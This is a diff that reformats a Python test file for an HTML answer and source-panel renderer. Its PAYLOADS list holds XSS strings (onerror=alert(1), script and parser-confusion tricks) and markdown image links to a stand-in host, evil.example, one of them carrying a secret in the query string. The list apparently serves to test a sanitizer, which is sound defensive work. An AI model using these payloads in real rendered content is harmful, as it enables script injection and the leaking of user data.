@@ -30,14 +30,34 @@ from ui.render_panel import locate, panel_html
 from ui.render_path import path_html
 
 EN, JA = strings.load("en"), strings.load("ja")
-LIBRARY = Source(1, passage(1, "The museum opens at nine.", title="Handbook", heading=("Handbook", "Hours")), "opens at nine")
-WEB = Source(2, passage(2, "Trains run hourly.", title="Trains", kind="web", url="https://rail.example/times?a=1&b=2"), "hourly")
+LIBRARY = Source(
+    1, passage(1, "The museum opens at nine.", title="Handbook", heading=("Handbook", "Hours")), "opens at nine"
+)
+WEB = Source(
+    2, passage(2, "Trains run hourly.", title="Trains", kind="web", url="https://rail.example/times?a=1&b=2"), "hourly"
+)
 
 TAGS = set(
     "html head body a article blockquote br button code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr "
     "img li mark nav ol p pre s span strong summary sup table tbody td th thead time tr ul".split()
 )
-ATTRIBUTES = {"class", "href", "src", "alt", "title", "lang", "value", "type", "rel", "target", "datetime", "start", "align", "loading", "open"}
+ATTRIBUTES = {
+    "class",
+    "href",
+    "src",
+    "alt",
+    "title",
+    "lang",
+    "value",
+    "type",
+    "rel",
+    "target",
+    "datetime",
+    "start",
+    "align",
+    "loading",
+    "open",
+}
 LINK = re.compile(
     r"/api/threads/[\w%.-]+/answers/\d+/sources/\d+(/document|/page\.png)?|https://rail\.example/times\?a=1&b=2|\?thread=[\w%.-]*"
 )
@@ -91,14 +111,14 @@ PAYLOADS = [
     "<input autofocus onfocus=alert(1)>",
     "<marquee onstart=alert(1)>x</marquee>",
     "<template><script>alert(1)</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<!--<img src="--><img src=x onerror=alert(1)//">',
     "<![CDATA[<img src=x onerror=alert(1)>]]>",
     "<?xml version='1.0'?><x onclick=alert(1)>",
     "<textarea><img src=x onerror=alert(1)></textarea>",
     "<title><img src=x onerror=alert(1)></title>",
     "</div></div><script>alert(1)</script>",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
     "' onmouseover='alert(1)",
     "![secret](https://evil.example/?q=secret)",
     "![a][1]\n\n[1]: https://evil.example/a.png",
@@ -142,8 +162,8 @@ PAYLOADS = [
     "\\(\\includegraphics{https://evil.example}\\)",
     "<a\nhref=https://evil.example>x</a>",
     "<p\n\n<img src=https://evil.example>",
-    "[a](<https://evil.example/ x> \"t\")",
-    "[a](https://evil.example \"[1]\")",
+    '[a](<https://evil.example/ x> "t")',
+    '[a](https://evil.example "[1]")',
     "<custom-element onclick=alert(1)>x</custom-element>",
     "<thinking><img src=x onerror=alert(1)></thinking>",
     "[a\\](https://evil.example)](https://evil.example)",
@@ -377,7 +397,9 @@ def test_the_quote_is_found(quote: str, text: str, expected: str | None) -> None
 
 def test_the_panel_shows_the_passage_in_its_surroundings() -> None:
     path = source_path("t", 0, 1)
-    tree = inspect(panel_html(LIBRARY, EN, path=path, before="half\n\n## Hours\n\n", after="\n\nClosed on Mondays.\nhalf"))
+    tree = inspect(
+        panel_html(LIBRARY, EN, path=path, before="half\n\n## Hours\n\n", after="\n\nClosed on Mondays.\nhalf")
+    )
     assert tree.css_first("mark").text() == "opens at nine"
     text = tree.css_first(".kotae-context").text(deep=True)
     assert "Hours" in text
@@ -402,7 +424,9 @@ def test_the_panel_of_a_document_that_is_gone_says_so_and_offers_no_way_to_it() 
 
 
 def test_marks_in_a_document_mean_nothing() -> None:
-    odd = dataclasses.replace(LIBRARY, passage=dataclasses.replace(LIBRARY.passage, text=f"{CLOSE}a{OPEN} opens at nine"))
+    odd = dataclasses.replace(
+        LIBRARY, passage=dataclasses.replace(LIBRARY.passage, text=f"{CLOSE}a{OPEN} opens at nine")
+    )
     assert [m.text() for m in inspect(panel_html(odd, EN, path="/api/threads/t/answers/0/sources/1")).css("mark")] == [
         "opens at nine"
     ]
